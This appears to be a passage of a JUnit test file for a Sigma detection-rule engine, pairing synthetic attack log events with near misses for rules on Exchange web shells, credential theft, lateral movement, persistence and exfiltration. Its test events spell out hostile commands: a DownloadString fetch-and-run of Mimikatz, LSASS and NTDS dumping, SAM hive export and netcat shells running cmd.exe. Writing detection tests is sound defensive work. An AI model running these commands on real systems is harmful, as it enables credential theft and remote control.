package org.dotlink.sigma.builtin;

import static org.dotlink.sigma.builtin.LogEvents.application;
import static org.dotlink.sigma.builtin.LogEvents.channel;
import static org.dotlink.sigma.builtin.LogEvents.process;
import static org.dotlink.sigma.builtin.LogEvents.security;
import static org.dotlink.sigma.builtin.LogEvents.sysmon;
import static org.dotlink.sigma.builtin.LogEvents.system;
import static org.dotlink.sigma.builtin.LogEvents.web;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.dotlink.core.Event;
import org.dotlink.sigma.compile.CompiledRule;
import org.dotlink.sigma.compile.RuleCompiler;
import org.dotlink.sigma.logsource.LogsourceMapping;
import org.dotlink.sigma.rule.SigmaRule;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/**
 * Every built-in rule, compiled with the logsource mapping, matches the events written here for it and
 * none of its near misses: the same activity without the decisive detail, or the benign look-alike the
 * rule's filters are there for.
 */
class BuiltinRuleCasesTest {

    /** Events a rule must match, and near misses it must not. */
    private record Case(List<Event> matching, List<Event> nearMisses) {}

    private static final Map<String, Case> CASES = new LinkedHashMap<>();

    private static void rule(String file, List<Event> matching, List<Event> nearMisses) {
        CASES.put(file, new Case(matching, nearMisses));
    }

    private static final String SYS32 = "C:\\Windows\\System32\\";
    private static final String CMD = SYS32 + "cmd.exe";
    private static final String POWERSHELL = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe";
    private static final String LSASS = "C:\\Windows\\system32\\lsass.exe";
    private static final String EXCHANGE = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\";
    private static final String W3WP = "c:\\windows\\system32\\inetsrv\\w3wp.exe";

    static {
        // ---------------------------------------------------------------- Exchange and web shells
        rule("dotlink_web_exchange_ssrf.yml",
                List.of(web("POST", "/ecp/y.js", null, 200, "cs(Cookie)",
                                "X-AnonResource=true;+X-AnonResource-Backend=localhost/ecp/default.flt?~3;"
                                        + "+X-BEResource=localhost/owa/auth/logon.aspx?~3;"),
                        web("GET", "/ecp/default.flt", null, 200, "cs(Cookie)",
                                "X-BEResource=EXCH01.corp.example/EWS/Exchange.asmx?a=~1942062522;"),
                        web("POST", "/owa/auth/Current/themes/resources/logon.css", null, 200)),
                List.of(web("GET", "/ecp/15.2.792.3/scripts/premium/flighting.js", null, 200),
                        web("GET", "/owa/auth/15.2.792.3/themes/resources/favicon.ico", null, 200, "cs(Cookie)",
                                "X-BEResource=EXCH02.corp.example~1942062522;+PrivateComputer=true"),
                        web("POST", "/owa/auth.owa", null, 302)));
        rule("dotlink_web_exchange_shell_page.yml",
                List.of(web("GET", "/owa/auth/8Lw7tAhF9i1pJnRo.aspx", null, 200),
                        web("GET", "/aspnet_client/system_web/log.aspx", null, 200)),
                List.of(web("GET", "/owa/auth/logon.aspx", "replaceCurrent=1&url=https%3a%2f%2fmail.corp.example%2fowa%2f",
                                200),
                        web("GET", "/owa/auth/8Lw7tAhF9i1pJnRo.aspx", null, 404),
                        web("POST", "/owa/auth/8Lw7tAhF9i1pJnRo.aspx", null, 200)));
        rule("dotlink_web_china_chopper_post.yml",
                List.of(web("POST", "/owa/auth/8Lw7tAhF9i1pJnRo.aspx", null, 200),
                        web("POST", "/aspnet_client/system_web/log.aspx", null, 200)),
                List.of(web("POST", "/owa/auth/expiredpassword.aspx", null, 200),
                        web("POST", "/aspnet_client/system_web/log.aspx", null, 404),
                        web("POST", "/erp/conn.aspx", "proxy", 200)));
        rule("dotlink_web_tunna_tunnel.yml",
                List.of(web("GET", "/erp/conn.aspx", "proxy&port=3389&ip=127.0.0.1", 200)),
                List.of(web("POST", "/erp/conn.aspx", "proxy", 200),
                        web("GET", "/shop/stores.aspx", "port=80&ip=10.10.1.5", 200)));
        rule("dotlink_web_regeorg_tunnel.yml",
                List.of(web("POST", "/aspnet_client/tunnel.ashx", "cmd=connect&target=10.10.20.5&port=3389", 200)),
                List.of(web("POST", "/aspnet_client/tunnel.ashx", "cmd=read", 200),
                        web("GET", "/search.aspx", "q=connect+target+port", 200)));
        rule("dotlink_web_large_response.yml",
                List.of(web("POST", "/aspnet_client/system_web/log.aspx", null, 200, "sc-bytes", "734003200"),
                        web("GET", "/owa/auth/cdr_0316.rar", null, 200, "sc-bytes", "120000000")),
                List.of(web("POST", "/aspnet_client/system_web/log.aspx", null, 200, "sc-bytes", "51200"),
                        web("GET", "/media/townhall.mp4", null, 200, "sc-bytes", "900000000")));
        rule("dotlink_proc_exchange_worker_shell.yml",
                List.of(process(CMD, "cmd /c \"cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\\\"&whoami&echo [S]&cd&echo [E]\"",
                                "ParentImage", W3WP),
                        process(POWERSHELL, "powershell.exe -nop -w hidden -enc SQBFAFgA",
                                "ParentImage", EXCHANGE + "Bin\\UMWorkerProcess.exe")),
                List.of(process("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
                                "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths"
                                        + " @\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\"
                                        + "a3c1e2f0\\5b0f1d2c\\hwk3ub0y.cmdline\"",
                                "ParentImage", W3WP),
                        process(CMD, "\"C:\\Windows\\system32\\cmd.exe\"", "ParentImage", "C:\\Windows\\explorer.exe")));
        rule("dotlink_proc_china_chopper_cmdline.yml",
                List.of(process(CMD, "cmd /c \"cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\\\"&whoami&echo [S]&cd&echo [E]\"",
                                "ParentImage", W3WP),
                        process(CMD, "cmd /c cd /d \"" + EXCHANGE + "FrontEnd\\HttpProxy\\owa\\auth\\\"&ipconfig /all",
                                "ParentImage", W3WP)),
                List.of(process(CMD, "cmd /c cd /d \"C:\\Users\\admin\\Documents\"&dir"),
                        process(CMD, "cmd.exe /c echo [S]")));
        rule("dotlink_file_exchange_webshell.yml",
                List.of(sysmon(11, "Image", W3WP, "TargetFilename",
                                EXCHANGE + "FrontEnd\\HttpProxy\\owa\\auth\\8Lw7tAhF9i1pJnRo.aspx"),
                        sysmon(11, "Image", EXCHANGE + "Bin\\UMWorkerProcess.exe", "TargetFilename",
                                "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx")),
                List.of(sysmon(11, "Image", "C:\\Windows\\System32\\msiexec.exe", "TargetFilename",
                                EXCHANGE + "FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx"),
                        sysmon(11, "Image", W3WP, "TargetFilename",
                                EXCHANGE + "FrontEnd\\HttpProxy\\owa\\auth\\15.2.792.3\\scripts\\premium\\boot.js")));
        rule("dotlink_image_exchange_backdoor_dll.yml",
                List.of(sysmon(7, "Image", W3WP, "ImageLoaded",
                                EXCHANGE + "ClientAccess\\Owa\\bin\\Microsoft.Exchange.Clients.Event.dll",
                                "Signed", "false", "SignatureStatus", "Unavailable"),
                        sysmon(7, "Image", EXCHANGE + "Bin\\MSExchangeFrontendTransport.exe", "ImageLoaded",
                                "C:\\Windows\\Temp\\msv1.dll", "Signed", "false")),
                List.of(sysmon(7, "Image", W3WP, "ImageLoaded",
                                EXCHANGE + "ClientAccess\\Owa\\bin\\Microsoft.Exchange.Clients.Owa2.Server.dll",
                                "Signed", "true", "SignatureStatus", "Valid"),
                        sysmon(7, "Image", SYS32 + "svchost.exe", "ImageLoaded", "C:\\Windows\\Temp\\msv1.dll",
                                "Signed", "false")));

        // ---------------------------------------------------------------- credential theft
        rule("dotlink_access_lsass.yml",
                List.of(sysmon(10, "SourceImage", "C:\\Users\\Public\\pd64.exe", "TargetImage", LSASS,
                                "GrantedAccess", "0x1fffff", "CallTrace", SYS32 + "ntdll.dll+9fc24|UNKNOWN(00007FF6A1B2C3D4)"),
                        sysmon(10, "SourceImage", POWERSHELL, "TargetImage", LSASS, "GrantedAccess", "0x1010")),
                List.of(sysmon(10, "SourceImage", SYS32 + "svchost.exe", "TargetImage", LSASS, "GrantedAccess", "0x1fffff"),
                        sysmon(10, "SourceImage", "C:\\Users\\Public\\pd64.exe", "TargetImage", LSASS,
                                "GrantedAccess", "0x1000"),
                        sysmon(10, "SourceImage",
                                "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2205.7-0\\MsMpEng.exe",
                                "TargetImage", LSASS, "GrantedAccess", "0x1fffff")));
        rule("dotlink_proc_lsass_dump_tools.yml",
                List.of(process("C:\\ProgramData\\pd64.exe", "pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp"),
                        process(SYS32 + "rundll32.exe",
                                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\o.dmp full"),
                        process(SYS32 + "rdrleakdiag.exe", "rdrleakdiag.exe /p 668 /o C:\\Windows\\Temp /fullmemdmp /snap")),
                List.of(process("C:\\ProgramData\\pd64.exe", "pd64.exe -accepteula -ma w3wp.exe C:\\Windows\\Temp\\w3.dmp"),
                        process(SYS32 + "regsvr32.exe", "regsvr32.exe /s C:\\Windows\\System32\\comsvcs.dll"),
                        process(SYS32 + "rdrleakdiag.exe", "rdrleakdiag.exe /p 668 /o C:\\Windows\\Temp /snap")));
        rule("dotlink_file_lsass_dump.yml",
                List.of(sysmon(11, "Image", SYS32 + "rundll32.exe", "TargetFilename", "C:\\Windows\\Temp\\lsass.dmp"),
                        sysmon(11, "Image", SYS32 + "Taskmgr.exe", "TargetFilename",
                                "C:\\Users\\admin\\AppData\\Local\\Temp\\lsass (2).DMP")),
                List.of(sysmon(11, "Image", SYS32 + "rundll32.exe", "TargetFilename", "C:\\Windows\\Temp\\notepad.dmp"),
                        sysmon(11, "Image", CMD, "TargetFilename", "C:\\Windows\\Temp\\lsass_notes.txt")));
        rule("dotlink_proc_mimikatz.yml",
                List.of(process("C:\\ProgramData\\m64.exe", "m64.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"),
                        process(POWERSHELL, "powershell.exe \"IEX (New-Object Net.WebClient).DownloadString('http://10.10.9.9/a');"
                                + " Invoke-Mimikatz -DumpCreds\""),
                        process("C:\\ProgramData\\svc.exe", "svc.exe", "OriginalFileName", "mimikatz.exe")),
                List.of(process(CMD, "cmd /c echo sekurlsa"),
                        process(SYS32 + "klist.exe", "klist.exe purge", "OriginalFileName", "klist.exe")));
        rule("dotlink_proc_reg_save_hives.yml",
                List.of(process(SYS32 + "reg.exe", "reg  save HKLM\\SAM sam.hive"),
                        process("C:\\ProgramData\\r.exe", "r.exe save HKEY_LOCAL_MACHINE\\SECURITY C:\\ProgramData\\s.dat /y",
                                "OriginalFileName", "reg.exe")),
                List.of(process(SYS32 + "reg.exe", "reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa"),
                        process(SYS32 + "reg.exe", "reg save HKCU\\Software\\Vendor app.hiv")));
        rule("dotlink_proc_ntds_theft.yml",
                List.of(process(SYS32 + "ntdsutil.exe", "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\ProgramData\\ifm\" q q"),
                        process(SYS32 + "vssadmin.exe", "vssadmin.exe  create shadow /for=C:"),
                        process(SYS32 + "wbem\\WMIC.exe", "wmic shadowcopy call create Volume='C:\\'"),
                        process(CMD, "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\NTDS.dit"
                                + " C:\\ProgramData\\n.dit")),
                List.of(process(SYS32 + "vssadmin.exe", "vssadmin  List Shadows"),
                        process(SYS32 + "wbem\\WMIC.exe", "wmic.exe  process call create"
                                + " \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy7\\\\Windows\\Temp\\svhost64.exe"),
                        process(SYS32 + "ntdsutil.exe", "ntdsutil \"ac i ntds\" \"files\" \"info\" q q")));
        rule("dotlink_app_ntds_database_copy.yml",
                List.of(application("ESENT", 325, "Data", "NTDS", "Data", "3392", "Data", "", "Data", "2",
                                "Data", "C:\\ProgramData\\ifm\\Active Directory\\ntds.dit", "Data", "0"),
                        application("ESENT", 326, "Data", "NTDS", "Data", "3392", "Data", "", "Data", "1",
                                "Data", "C:\\$SNAP_202103030245_VOLUMEC$\\Windows\\NTDS\\ntds.dit", "Data", "0")),
                List.of(application("ESENT", 325, "Data", "NTDS", "Data", "612", "Data", "", "Data", "1",
                                "Data", "C:\\Windows\\NTDS\\ntds.dit", "Data", "0"),
                        application("ESENT", 326, "Data", "lsass", "Data", "612", "Data", "", "Data", "1",
                                "Data", "C:\\Windows\\NTDS\\ntds.dit", "Data", "0"),
                        application("ESENT", 327, "Data", "NTDS", "Data", "3392", "Data", "", "Data", "1",
                                "Data", "C:\\$SNAP_202103030245_VOLUMEC$\\Windows\\NTDS\\ntds.dit", "Data", "0")));

        // ---------------------------------------------------------------- accounts
        rule("dotlink_sec_privileged_group_add.yml",
                List.of(security(4728, "MemberName", "CN=svc_backup2,CN=Users,DC=corp,DC=example",
                                "MemberSid", "S-1-5-21-3461203602-4096304019-2269080069-1127", "TargetUserName", "Domain Admins",
                                "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-3461203602-4096304019-2269080069-512"),
                        security(4732, "MemberName", "-", "MemberSid", "S-1-5-21-3461203602-4096304019-2269080069-1127",
                                "TargetUserName", "Administrateurs", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544"),
                        security(4756, "MemberSid", "S-1-5-21-3461203602-4096304019-2269080069-1127",
                                "TargetUserName", "Enterprise Admins", "TargetSid", "S-1-5-21-3461203602-4096304019-2269080069-519")),
                List.of(security(4728, "MemberSid", "S-1-5-21-3461203602-4096304019-2269080069-1127",
                                "TargetUserName", "Domain Users", "TargetSid", "S-1-5-21-3461203602-4096304019-2269080069-513"),
                        security(4729, "MemberSid", "S-1-5-21-3461203602-4096304019-2269080069-1127",
                                "TargetUserName", "Domain Admins", "TargetSid", "S-1-5-21-3461203602-4096304019-2269080069-512")));
        rule("dotlink_proc_net_group_admin_add.yml",
                List.of(process(SYS32 + "net.exe", "net group \"Domain Admins\" svc_backup2 /add /domain"),
                        process(SYS32 + "net1.exe", "C:\\Windows\\system32\\net1 localgroup administrators helpdesk /add")),
                List.of(process(SYS32 + "net.exe", "net group \"Domain Admins\" /domain"),
                        process(SYS32 + "net.exe", "net localgroup \"Remote Desktop Users\" helpdesk /add")));

        // ---------------------------------------------------------------- lateral movement
        rule("dotlink_proc_psexec.yml",
                List.of(process("C:\\ProgramData\\PsExec64.exe", "PsExec64.exe \\\\10.10.20.15 -accepteula -s cmd.exe"),
                        process("C:\\ProgramData\\ps.exe", "ps.exe \\\\BILL-DB01 -u CORP\\svc_backup2 -p x /accepteula"
                                + " c:\\programdata\\r.bat"),
                        process("C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
                                "ParentImage", SYS32 + "services.exe")),
                List.of(process("C:\\ProgramData\\pd64.exe", "pd64.exe -accepteula -ma lsass.exe \\\\fs01\\share\\l.dmp"),
                        process("C:\\ProgramData\\PsExec64.exe", "PsExec64.exe -accepteula -s -i cmd.exe")));
        rule("dotlink_sys_psexec_service.yml",
                List.of(system("Service Control Manager", 7045, "ServiceName", "PSEXESVC",
                        "ImagePath", "%SystemRoot%\\PSEXESVC.exe", "ServiceType", "user mode service",
                        "StartType", "demand start", "AccountName", "LocalSystem")),
                List.of(system("Service Control Manager", 7045, "ServiceName", "Sysmon64",
                                "ImagePath", "C:\\Windows\\Sysmon64.exe", "ServiceType", "user mode service",
                                "StartType", "auto start", "AccountName", "LocalSystem"),
                        system("Service Control Manager", 7036, "param1", "PSEXESVC", "param2", "running")));
        rule("dotlink_sys_service_shell.yml",
                List.of(system("Service Control Manager", 7045, "ServiceName", "spoolfool", "ImagePath", "cmd.exe",
                                "AccountName", "LocalSystem"),
                        system("Service Control Manager", 7045, "ServiceName", "BTOBTO", "ImagePath",
                                "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"
                                        + " & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat"),
                        system("Service Control Manager", 7045, "ServiceName", "svcupd", "ImagePath",
                                "C:\\ProgramData\\svc.exe")),
                List.of(system("Service Control Manager", 7045, "ServiceName", "Sysmon64", "ImagePath",
                                "C:\\Windows\\Sysmon64.exe"),
                        system("Service Control Manager", 7045, "ServiceName", "CmdAgent", "ImagePath",
                                "\"C:\\Program Files\\Vendor\\cmdagent.exe\" -service")));
        rule("dotlink_proc_sc_remote_service.yml",
                List.of(process(SYS32 + "sc.exe", "sc.exe \\\\BILL-DB01 create svcupd binPath= \"C:\\ProgramData\\svc.exe\""
                                + " start= auto"),
                        process(SYS32 + "sc.exe", "sc \\\\10.10.20.5 config Spooler binPath= \"cmd /c C:\\ProgramData\\r.bat\"")),
                List.of(process(SYS32 + "sc.exe", "sc.exe create svcupd binPath= \"C:\\ProgramData\\svc.exe\""),
                        process(SYS32 + "sc.exe", "sc \\\\BILL-DB01 query Spooler")));
        rule("dotlink_proc_wmic_remote_process.yml",
                List.of(process(SYS32 + "wbem\\WMIC.exe",
                        "wmic /node:10.10.20.5 /user:CORP\\svc_backup2 process call create \"cmd /c c:\\programdata\\r.bat\"")),
                List.of(process(SYS32 + "wbem\\WMIC.exe", "wmic /node:localhost process call create calc.exe"),
                        process(SYS32 + "wbem\\WMIC.exe", "wmic /node:10.10.20.5 os get caption")));
        rule("dotlink_proc_wmiprvse_shell.yml",
                List.of(process(CMD, "cmd.exe /c c:\\programdata\\r.bat", "ParentImage", SYS32 + "wbem\\WmiPrvSE.exe"),
                        process(POWERSHELL, "powershell -nop -c Get-Process", "ParentImage", SYS32 + "wbem\\WmiPrvSE.exe")),
                List.of(process(SYS32 + "notepad.exe", "notepad.exe", "ParentImage", SYS32 + "wbem\\WmiPrvSE.exe"),
                        process(CMD, "cmd.exe /c c:\\programdata\\r.bat", "ParentImage", SYS32 + "services.exe")));
        rule("dotlink_proc_impacket_exec_output.yml",
                List.of(process(CMD, "cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1556656369.7 2>&1",
                                "ParentImage", SYS32 + "wbem\\WmiPrvSE.exe"),
                        process(CMD, "C:\\Windows\\system32\\cmd.exe /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1"
                                + " > C:\\Windows\\TEMP\\execute.bat & C:\\Windows\\system32\\cmd.exe /Q /c"
                                + " C:\\Windows\\TEMP\\execute.bat & del C:\\Windows\\TEMP\\execute.bat",
                                "ParentImage", SYS32 + "services.exe")),
                List.of(process(CMD, "cmd.exe /Q /c whoami /all", "ParentImage", SYS32 + "wbem\\WmiPrvSE.exe"),
                        process(CMD, "cmd.exe /c dir > \\\\127.0.0.1\\c$\\out.txt 2>&1")));

        // ---------------------------------------------------------------- persistence
        rule("dotlink_proc_schtasks_suspicious.yml",
                List.of(process(SYS32 + "schtasks.exe",
                                "schtasks  /create /tn \"mysc\" /tr C:\\windows\\system32\\calc.exe /sc ONLOGON /ru \"System\" /f"),
                        process(SYS32 + "schtasks.exe", "schtasks  /Create /f /XML"
                                + " C:\\Users\\admin\\AppData\\Local\\Temp\\sduchxll.tmp /TN DataUsageHandlers"),
                        process("C:\\ProgramData\\st.exe", "st.exe -create -tn upd -tr C:\\ProgramData\\svc.exe -sc minute",
                                "OriginalFileName", "schtasks.exe")),
                List.of(process(SYS32 + "schtasks.exe",
                                "SCHTASKS  /Create /SC ONCE /TN spawn /TR C:\\windows\\system32\\cmd.exe /ST 20:10"),
                        process(SYS32 + "schtasks.exe", "schtasks.exe /run /tn \"\\Microsoft\\Windows\\DiskCleanup\\SilentCleanup\"")));
        rule("dotlink_sec_scheduled_task_created.yml",
                List.of(security(4698, "SubjectUserName", "svc_backup2", "TaskName", "\\Microsoft\\Windows\\Update\\upd",
                                "TaskContent", task("S-1-5-21-3461203602-4096304019-2269080069-1127",
                                        "C:\\ProgramData\\svc.exe", "")),
                        security(4698, "SubjectUserName", "Administrator", "TaskName", "\\CYAlyNSS",
                                "TaskContent", task("S-1-5-18", "cmd.exe", "/C tasklist &gt; nul 2&gt;&amp;1"))),
                List.of(security(4698, "SubjectUserName", "SYSTEM", "TaskName", "\\GoogleUpdateTaskMachineCore",
                                "TaskContent", task("S-1-5-18", "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "/c")),
                        security(4699, "SubjectUserName", "svc_backup2", "TaskName", "\\Microsoft\\Windows\\Update\\upd",
                                "TaskContent", task("S-1-5-21-3461203602-4096304019-2269080069-1127",
                                        "C:\\ProgramData\\svc.exe", ""))));
        rule("dotlink_image_dll_sideloading.yml",
                List.of(sysmon(7, "Image", "C:\\ProgramData\\Intel\\CV.exe", "ImageLoaded", "C:\\ProgramData\\Intel\\wwlib.dll",
                                "Signed", "false", "SignatureStatus", "Unavailable"),
                        sysmon(7, "Image", "C:\\Users\\admin\\Desktop\\tools\\jjs.exe", "ImageLoaded",
                                "C:\\Users\\admin\\Desktop\\tools\\jli.dll", "Signed", "false")),
                List.of(sysmon(7, "Image", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "ImageLoaded",
                                "C:\\Program Files\\Microsoft Office\\root\\Office16\\wwlib.dll", "Signed", "true"),
                        sysmon(7, "Image", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2205.7-0\\MsMpEng.exe",
                                "ImageLoaded", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2205.7-0\\mpsvc.dll",
                                "Signed", "true", "SignatureStatus", "Valid")));

        // ---------------------------------------------------------------- collection and exfiltration
        rule("dotlink_proc_archive_password.yml",
                List.of(process("C:\\ProgramData\\rar.exe", "rar.exe a -r -v500m -hpP4ssw0rd C:\\$Recycle.Bin\\cdr.rar"
                                + " D:\\Billing\\CDR\\*.csv"),
                        process("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -pS3cret -mhe=on C:\\Users\\Public\\x.7z D:\\Billing"),
                        process("C:\\Windows\\Temp\\wmiprv.exe", "wmiprv.exe a -hpP4ssw0rd C:\\Windows\\Temp\\d.rar D:\\Billing")),
                List.of(process("C:\\ProgramData\\rar.exe", "rar a -r exfilthis.rar *.docx"),
                        process("C:\\ProgramData\\rar.exe", "rar.exe x -pS3cret C:\\Users\\Public\\tools.rar C:\\ProgramData\\")));
        rule("dotlink_file_archive_staging.yml",
                List.of(sysmon(11, "Image", "C:\\ProgramData\\r.exe", "TargetFilename", "C:\\$Recycle.Bin\\cdr_0316.part01.rar"),
                        sysmon(11, "Image", "C:\\Program Files\\WinRAR\\WinRAR.exe", "TargetFilename",
                                "C:\\Users\\Public\\billing.7z")),
                List.of(sysmon(11, "Image", "C:\\Windows\\explorer.exe", "TargetFilename",
                                "C:\\$Recycle.Bin\\S-1-5-21-3461203602-4096304019-2269080069-1127\\$IK3J8Q2.zip"),
                        sysmon(11, "Image", SYS32 + "svchost.exe", "TargetFilename",
                                "C:\\Users\\admin\\AppData\\Local\\Temp\\Personalization\\LockScreenImage\\LockScreenImage_x.7z"),
                        sysmon(11, "Image", "C:\\Program Files\\WinRAR\\WinRAR.exe", "TargetFilename", "D:\\Backups\\week.rar")));
        rule("dotlink_net_transfer_tool.yml",
                List.of(sysmon(3, "Image", "C:\\ProgramData\\rclone.exe", "Protocol", "tcp", "Initiated", "true",
                        "SourceIp", "10.10.20.5", "DestinationIp", "198.51.100.20", "DestinationPort", "443")),
                List.of(sysmon(3, "Image", "C:\\ProgramData\\rclone.exe", "Protocol", "tcp", "Initiated", "false",
                                "SourceIp", "10.10.20.9", "DestinationIp", "10.10.20.5", "DestinationPort", "5572"),
                        sysmon(3, "Image", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Protocol", "tcp",
                                "Initiated", "true", "DestinationIp", "198.51.100.20", "DestinationPort", "443")));

        // ---------------------------------------------------------------- tunnels and discovery
        rule("dotlink_proc_htran.yml",
                List.of(process("C:\\ProgramData\\svc.exe", "svc.exe -tran 53 10.10.20.5 3389"),
                        process("C:\\ProgramData\\svc.exe", "svc.exe -slave 203.0.113.7 443 10.10.20.5 3389"),
                        process("C:\\ProgramData\\svc.exe", "svc.exe -listen 8080 443")),
                List.of(process("C:\\Program Files\\nodejs\\node.exe", "node.exe server.js -listen localhost"),
                        process("C:\\ProgramData\\svc.exe", "svc.exe -tran")));
        rule("dotlink_proc_softether_vpn.yml",
                List.of(process("C:\\ProgramData\\vmtools\\vpnbridge.exe", "vpnbridge.exe /service",
                                "ParentImage", SYS32 + "services.exe"),
                        process("C:\\ProgramData\\vmtools\\taskhst.exe", "taskhst.exe /usermode",
                                "Description", "SoftEther VPN Bridge", "Product", "SoftEther VPN")),
                List.of(process("C:\\Program Files\\SoftEther VPN Client\\vpnclient_x64.exe", "vpnclient_x64.exe /service",
                                "Description", "SoftEther VPN Client", "Product", "SoftEther VPN"),
                        process("C:\\Program Files\\OpenVPN\\bin\\openvpn.exe", "openvpn.exe --config corp.ovpn")));
        rule("dotlink_file_softether_hamcore.yml",
                List.of(sysmon(11, "Image", "C:\\ProgramData\\vmtools\\taskhst.exe", "TargetFilename",
                        "C:\\ProgramData\\vmtools\\hamcore.se2")),
                List.of(sysmon(11, "Image", "C:\\ProgramData\\vmtools\\taskhst.exe", "TargetFilename",
                        "C:\\ProgramData\\vmtools\\vpn_bridge.config")));
        rule("dotlink_proc_netcat_shell.yml",
                List.of(process("C:\\Users\\admin\\Tools\\nc64.exe", "nc64.exe 10.0.2.11 3001 -e cmd.exe"),
                        process("C:\\ProgramData\\nc.exe", "nc.exe -l -p 4444 -e cmd.exe"),
                        process("C:\\ProgramData\\nc.exe", "nc.exe -lvp 4444")),
                List.of(process("C:\\Users\\Public\\Tools\\nc.exe", "nc.exe  127.0.0.1 1337"),
                        process(POWERSHELL, "powershell.exe -e JABjAGwAaQBlAG4AdAAgAD0A")));
        rule("dotlink_proc_nbtscan.yml",
                List.of(process("C:\\ProgramData\\nbtscan.exe", "nbtscan.exe 10.10.0.0/16"),
                        process(CMD, "cmd /c \"C:\\ProgramData\\nbtscan\" -r 10.10.20.0/24 > C:\\ProgramData\\n.txt")),
                List.of(process(SYS32 + "attrib.exe", "attrib  +h nbtscan.exe"),
                        process(CMD, "cmd /c del C:\\ProgramData\\nbtscan.exe")));
    }

    // ---------------------------------------------------------------- behaviour seen in the attack samples
    private static final String SYSMON_REG = "HKU\\S-1-5-21-3461203602-4096304019-2269080069-1000";
    private static final String BITS = "Microsoft-Windows-Bits-Client/Operational";
    private static final String BITS_PROVIDER = "Microsoft-Windows-Bits-Client";
    private static final String SVCHOST = SYS32 + "svchost.exe";
    private static final String ALL_ACCESS_PIPE = "%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4416\n\t\t\t\t%%4417\n\t\t\t\t%%4418\n"
            + "\t\t\t\t%%4419\n\t\t\t\t%%4420\n\t\t\t\t%%4423\n\t\t\t\t%%4424\n\t\t\t\t";
    private static final String READ_ONLY = "%%4416\n\t\t\t\t%%4423\n\t\t\t\t";

    static {
        // command and control: tunnels and BITS
        rule("dotlink_sec_rdp_logon_loopback.yml",
                List.of(security(4624, "TargetUserName", "IEUser", "LogonType", "10", "LogonProcessName", "User32 ",
                                "ProcessName", SYS32 + "winlogon.exe", "IpAddress", "127.0.0.1", "IpPort", "49164"),
                        security(4624, "TargetUserName", "admin01", "LogonType", "10", "IpAddress", "::1")),
                List.of(security(4624, "TargetUserName", "IEUser", "LogonType", "10", "IpAddress", "10.0.2.16"),
                        security(4624, "TargetUserName", "IEUser", "LogonType", "2", "ProcessName", SYS32 + "winlogon.exe",
                                "IpAddress", "127.0.0.1")));
        rule("dotlink_rcm_rdp_auth_loopback.yml",
                List.of(channel("Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
                        "Microsoft-Windows-TerminalServices-RemoteConnectionManager", 1149, "Param1", "admin01", "Param2", "",
                        "Param3", "127.0.0.1")),
                List.of(channel("Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
                                "Microsoft-Windows-TerminalServices-RemoteConnectionManager", 1149, "Param1", "administrator",
                                "Param2", "ie11win7", "Param3", "10.0.2.16"),
                        channel("Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
                                "Microsoft-Windows-TerminalServices-LocalSessionManager", 1149, "Param3", "127.0.0.1")));
        rule("dotlink_net_web_server_tunnel.yml",
                List.of(sysmon(3, "Image", SYS32 + "inetsrv\\w3wp.exe", "User", "IIS APPPOOL\\DefaultAppPool", "Protocol", "tcp",
                                "Initiated", "true", "SourceIp", "127.0.0.1", "DestinationIp", "127.0.0.1", "DestinationPort", "3389"),
                        sysmon(3, "Image", SYS32 + "inetsrv\\w3wp.exe", "Initiated", "true", "DestinationIp", "10.10.20.5",
                                "DestinationPort", "445")),
                List.of(sysmon(3, "Image", SYS32 + "inetsrv\\w3wp.exe", "Initiated", "true", "DestinationIp", "10.10.20.7",
                                "DestinationPort", "1433"),
                        sysmon(3, "Image", SVCHOST, "Initiated", "false", "SourceIp", "127.0.0.1", "DestinationPort", "3389")));
        rule("dotlink_bits_job_unusual_client.yml",
                List.of(channel(BITS, BITS_PROVIDER, 3, "jobTitle", "47c090fb.png", "jobOwner", "WS042\\eve",
                                "processPath", "C:\\Windows\\SysWOW64\\notepad.exe", "processId", "4242"),
